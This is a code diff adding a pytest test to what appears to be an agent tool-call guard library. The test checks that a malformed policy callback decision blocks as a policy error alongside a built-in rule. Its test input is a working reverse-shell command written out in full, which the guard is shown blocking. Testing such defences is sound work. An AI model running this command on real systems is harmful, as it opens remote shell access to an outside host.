@@ -172,6 +172,43 @@ def test_a_raising_policy_follows_on_policy_error(guarded: Any, mode: str, on_er
     assert errors[0].action == ("block" if blocks else "alert")
 
 
+@pytest.mark.parametrize("returned", ["bad severity", "bad evidence", "not a decision"])
+def test_a_malformed_decision_is_a_policy_error_and_keeps_the_other_rules(
+        guarded: Any, returned: str) -> None:
+    """A callback returning a decision no finding can be made of (a typo in its severity,
+    evidence that is not a mapping, something else than a Decision) blocks in enforce mode as a
+    'policy-error', and the built-in rule that matched the same call still blocks it."""
+    seen: list[Finding] = []
+    runs: list[str] = []
+
+    def careless(event: Any) -> Any:
+        if event.kind != "tool_call":
+            return None
+        if returned == "bad severity":
+            return Decision("alert", "shell used", severity="hi")  # type: ignore[arg-type]
+        if returned == "bad evidence":
+            return Decision.alert("shell used", evidence=["cmd"])  # type: ignore[arg-type]
+        return [Decision.alert("shell used", rule_id="SHELL"), "alert"]
+
+    @agentguard.tool
+    def shell(cmd: str) -> str:
+        runs.append(cmd)
+        return "ran"
+
+    guarded(mode="enforce", policy=[careless], on_finding=seen.append, **QUIET)
+    with pytest.raises(agentguard.ToolCallBlocked):
+        shell("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
+    assert runs == []
+    rules = {f.rule_id: f.action for f in seen}
+    assert rules["AG003"] == "block"
+    assert rules["policy-error"] == "block"
+    if returned == "bad severity":
+        error = next(f for f in seen if f.rule_id == "policy-error")
+        assert "severity must be one of" in error.evidence["message"]
+    if returned == "not a decision":
+        assert rules["SHELL"] == "alert"
+
+
 def test_policy_objects_callables_and_files_combine(guarded: Any, policy_file: Path) -> None:
     """policy= takes a list of file paths, Policy objects and callables, all applied."""
     seen: list[Finding] = []
